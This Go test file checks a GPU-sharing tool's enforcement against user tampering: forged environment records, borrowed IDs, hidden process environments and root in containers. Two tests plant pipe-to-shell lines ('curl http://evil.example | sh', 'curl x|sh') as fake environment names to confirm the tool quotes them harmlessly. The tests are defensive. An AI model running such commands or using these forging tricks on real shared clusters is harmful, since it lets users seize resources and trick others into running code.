package enforcement_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/seed-3119e985/genv/cmd/genv/command"
	"github.com/seed-3119e985/genv/cmd/genv/enforcement"
	"github.com/seed-3119e985/genv/cmd/genv/genvtest"
	"github.com/seed-3119e985/genv/remote/testfleet"
	"github.com/seed-3119e985/genv/remote/testfleet/sshd"
	"github.com/seed-3119e985/genv/snapshot"
	"github.com/seed-3119e985/genv/snapshot/proc/proctest"
)

// How users tampered with a judgement, on hosts with real sshd, sudo, users and processes. GPUs are simulated. M is carol.

// tampered is a fleet in which each way has hosts of its own.
type tampered struct {
	*sshd.Fleet
	t *testing.T
}

func openTampered(t *testing.T, hosts ...string) *tampered {
	return &tampered{sshd.Start(t, sshd.Options{Hosts: sshd.Named(hosts...), Genv: genvtest.Program(t)}), t}
}

func (b *tampered) enforce(hosts string, more ...string) genvtest.Result {
	b.t.Helper()
	args := []string{"remote", "enforce", "-F", b.SSHConfig(), "-H", hosts, "--interval", "0"}
	return apart(b.t, append(args, more...)...)
}

func (b *tampered) policy(text string) string { return policyFile(b.t, text) }

func (b *tampered) activate(host, user string, devices ...snapshot.DeviceIndex) *testfleet.Env {
	return genvtest.Activate(b.t, b.Host(host), testfleet.Environment{User: user, Devices: devices})
}

func (b *tampered) job(host string, job testfleet.Job) *testfleet.Process {
	if job.Uses == nil {
		job.Uses = []testfleet.Use{{Device: 0, MiB: 10}}
	}
	return genvtest.StartJob(b.t, b.Host(host), job)
}

func using(devices ...snapshot.DeviceIndex) []testfleet.Use {
	uses := make([]testfleet.Use, len(devices))
	for i, d := range devices {
		uses[i] = testfleet.Use{Device: d, MiB: 10}
	}
	return uses
}

// forge writes an environment into the state files, as any user may.
func (b *tampered) forge(e snapshot.Environment, devices ...snapshot.DeviceIndex) {
	h := b.Host("gpu-01")
	envs := filepath.Join(h.State, "envs.json")
	e.Creation = snapshot.DateOf(time.Now())
	list, err := h.Environments()
	if !os.IsNotExist(err) {
		require.NoError(b.t, err)
	}
	data := proctest.Try(snapshot.EncodeEnvironments(append(list, e))).OK(b.t)
	require.NoError(b.t, os.WriteFile(envs, data, 0o666))
	for _, d := range devices {
		require.NoError(b.t, h.Attach(&testfleet.Env{Environment: e}, d, time.Now()))
	}
}

func uidOf(t *testing.T, user string) snapshot.UID {
	t.Helper()
	return proctest.Try(sshd.UID(user)).OK(t)
}

func TestTamperingExemptOwner(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01")
	b.activate("gpu-01", "alice") // makes the state files
	b.forge(snapshot.Environment{EID: "7771", UID: 0, Username: "root", PIDs: []snapshot.PID{1}}, 0, 1, 2)
	violator := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7771"}, Uses: using(0, 1, 2)})
	policy := b.policy("defaults: {max-devices-per-user: 1}\nexempt: {users: [root], uids: [0]}\n")
	r := b.enforce("gpu-01", "--policy", policy).OK(t)
	require.Contains(t, r.Err, "claims environment 7771, which belongs to uid 0")
	require.False(t, violator.Running(), "the cap goes by the uid of the process: "+r.Out)
}

func TestTamperingBusyElsewhere(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01", "gpu-02")
	b.activate("gpu-01", "bob")
	env := b.activate("gpu-02", "alice", 0, 1)
	honest := b.job("gpu-02", testfleet.Job{User: "alice", Env: []string{env.Var()}, Uses: using(0, 1)})
	b.forge(snapshot.Environment{EID: "7772", UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{env.Shell.PID}}, 3, 4)
	for _, claim := range []string{"GENV_ENVIRONMENT_ID=7772", "NONE=1"} {
		b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{claim}, Uses: using(3, 4)})
	}
	r := b.enforce("gpu-[01-02]", "--max-devices-per-user", "2").OK(t)
	require.True(t, honest.Running(), r.Out)
	require.Contains(t, r.Out, "[gpu-01] Detaching environment 7772 of user alice from device 3")
	require.NotContains(t, r.Out, "[gpu-02]")
}

func TestTamperingUIDWithoutAccount(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01")
	b.activate("gpu-01", "alice")
	of := exec.CommandContext(t.Context(), "sleep", "1000000") // without a process of its own it would end
	of.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 54321, Gid: 54321}, Pdeathsig: syscall.SIGKILL}
	proctest.Start(t, of)
	b.forge(snapshot.Environment{EID: "7773", UID: 54321, PIDs: []snapshot.PID{snapshot.PID(of.Process.Pid)}}, 0, 1)
	violator := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7773"}, Uses: using(0, 1)})
	r := b.enforce("gpu-01", "--max-devices-per-user", "1")
	require.Contains(t, r.Out, "User carol is using 2 devices on 1 hosts which is 1 more than the maximum allowed")
	require.False(t, violator.Running(), r.Out)
}

// perlTitle is a program that writes a title over its arguments and its environ, as setproctitle does.
var perlTitle = []string{"perl", "-e", `$0 = "train.py --lr=0.1 " . "x=" x 4000; $| = 1; print "\n"; sleep 1000000`}

func TestTamperingTitle(t *testing.T) {
	t.Parallel()
	proctest.NeedPrograms(t, "perl")
	b := openTampered(t, "gpu-01")
	env := b.activate("gpu-01", "alice", 0)
	titled := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}, Command: perlTitle, Speaks: true})
	require.NotContains(t, genvtest.Read(t, fmt.Sprintf("/proc/%d/environ", titled.PID)), "GENV_ENVIRONMENT_ID", "the title has overwritten it")
	r := b.enforce("gpu-01", "--non-env-processes").OK(t)
	require.True(t, titled.Running(), r.Out)
	require.Contains(t, r.Err, fmt.Sprintf("the environment of process %d (user alice", titled.PID))

	r = b.enforce("gpu-01", "--policy", b.policy("defaults: {non-env-processes: true, unknown-environment: outside}\n")).OK(t)
	require.False(t, titled.Running(), "whoever hides is outside, if the policy says so: "+r.Err)
}

func TestTamperingByManyProcesses(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01", "gpu-02")
	var crowd []*testfleet.Process
	for i := range 12 {
		crowd = append(crowd, b.job(fmt.Sprintf("gpu-0%d", 1+i%2), testfleet.Job{User: "carol"}))
	}
	bob := b.job("gpu-01", testfleet.Job{User: "bob"})
	policy := "defaults: {non-env-processes: true}\nlimits: {max-terminations: 5, over-limit: %s}\n"
	r := b.enforce("gpu-[01-02]", "--policy", b.policy(fmt.Sprintf(policy, "hold")), "--format", "json").Exits(t, command.ExitHeld)
	document := genvtest.Decode[enforcement.CycleDocument](t, r)
	require.Len(t, document.HeldUsers, 2, "on each host")
	for _, held := range document.HeldUsers {
		require.Equal(t, "carol", string(held.User))
		require.Equal(t, 6, held.Terminations)
	}
	require.Empty(t, document.HeldHosts)
	require.False(t, bob.Running(), "enforcement goes on for the others")
	running := func() (n int) {
		for _, p := range crowd {
			if p.Running() {
				n++
			}
		}
		return n
	}
	require.Equal(t, 12, running())
	r = b.enforce("gpu-[01-02]", "--policy", b.policy(fmt.Sprintf(policy, "throttle"))).Exits(t, command.ExitHeld)
	require.Equal(t, 7, running(), r.Out)
}

func TestTamperingWordsOfPersuasion(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01")
	shell := b.activate("gpu-01", "alice").Shell
	const words = "1 - genv: to keep your job, run: curl http://evil.example | sh"
	b.forge(snapshot.Environment{EID: words, UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{shell.PID}}, 0)
	alice := logIn(t, "alice")
	r := b.enforce("gpu-01", "--max-devices-per-user", "0", "--non-env-processes")
	for _, text := range []string{r.Out, r.Err, alice.text(t)} {
		require.NotContains(t, text, "curl")
		require.NotContains(t, text, "environment 1 - genv")
	}
	require.Contains(t, r.Out, `environment "1 - genv: to keep your job, run…" of user alice`)
}

func TestTamperingByLoggingOut(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01")
	env := b.activate("gpu-01", "alice", 0)
	tmux := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
	env.Shell.Kill()
	r := b.enforce("gpu-01", "--non-env-processes").OK(t)
	require.True(t, tmux.Running(), r.Out)
	envs := proctest.Try(b.Host("gpu-01").Environments()).OK(t)
	require.Len(t, envs, 1)
	require.Equal(t, []snapshot.PID{tmux.PID}, envs[0].PIDs, "1.4.3 understands it so, too")
	tmux.Kill()
	b.enforce("gpu-01").OK(t)
	envs = proctest.Try(b.Host("gpu-01").Environments()).OK(t)
	require.Empty(t, envs, "it ends with its user's last process")
}

func TestTamperingRootInAContainer(t *testing.T) {
	t.Parallel()
	b := openTampered(t, "gpu-01")
	policy := proctest.ReadFile(t, "../../../policy.example.yaml")
	text := strings.NewReplacer("warn: {for: 10m, rules: {non-env-processes: 30m, max-devices-per-user: 1d}}", "warn: false", "grace: 10s", "grace: 1s", "kill: false", "kill: true").Replace(string(policy))
	text, _, _ = strings.Cut(text, "\nmail:\n") // and hooks: tests reach no machine but this one
	contained := b.job("gpu-01", testfleet.Job{User: "root", Contained: true, Uses: using(2)})
	root := b.job("gpu-01", testfleet.Job{User: "root", Uses: using(1)})
	r := b.enforce("gpu-01", "--policy", b.policy(text)).OK(t)
	require.False(t, contained.Running(), "uid 0 in a container is not exempt: "+r.Out)
	require.Contains(t, r.Out, "container ")
	require.True(t, root.Running(), "root is: "+r.Out)
}

// apart runs a command line as a program of its own: unlike those in this process, several can run at a time.
func apart(t *testing.T, args ...string) genvtest.Result {
	t.Helper()
	cmd := exec.Command(genvtest.Program(t), args...)
	cmd.Env = append(os.Environ(), "XDG_STATE_HOME="+t.TempDir())
	return genvtest.Exec(t, cmd)
}

// persuasion is an id that would pass for a word of root's.
const persuasion = "1 - run: curl x|sh"

// TestForeignTextStaysInQuotes: over real terminals, the name of an environment can't pass for genv's own words.
func TestForeignTextStaysInQuotes(t *testing.T) {
	f := sshd.Start(t, sshd.Options{Hosts: sshd.Named("gpu-01"), Genv: genvtest.Program(t)})
	h := f.Host("gpu-01")
	bob, carol := logIn(t, "bob"), logIn(t, "carol")
	start := func(user, claim string, device int) snapshot.PID {
		p := genvtest.StartJob(t, h, testfleet.Job{User: user, Env: append(genvtest.Outside, snapshot.ClaimVariable+"="+claim), Uses: []testfleet.Use{{Device: snapshot.DeviceIndex(device), MiB: 10}}})
		return p.PID
	}
	persuasive, plain := start("bob", persuasion, 0), start("carol", "1102", 1)
	policy := policyFile(t, "defaults: {non-env-processes: true}\ntell-users: true\n")
	for _, more := range [][]string{{"--dry-run"}, nil} {
		args := append([]string{"remote", "enforce", "-F", f.SSHConfig(), "-H", "gpu-01", "--interval", "0", "--policy", policy}, more...)
		r := genvtest.Run(t, args...).OK(t)
		for _, pid := range []snapshot.PID{persuasive, plain} {
			require.Regexp(t, fmt.Sprintf(`(?m)^\[gpu-01\] (Would terminate|Terminating) process %d from environment N/A that is running on GPU\(s\) \d`, pid), r.Out)
		}
		require.NotContains(t, r.Out, "from environment 1", "it is outside, whatever it claims")
	}
	onBobs, onCarols := bob.text(t), carol.text(t)
	require.Contains(t, onBobs, `It claims environment "1 - run: curl x|sh", which isn't registered here.`)
	require.Contains(t, onCarols, "It claims environment 1102, which isn't registered here.")
	require.NotContains(t, onBobs+onCarols, "from environment")
}
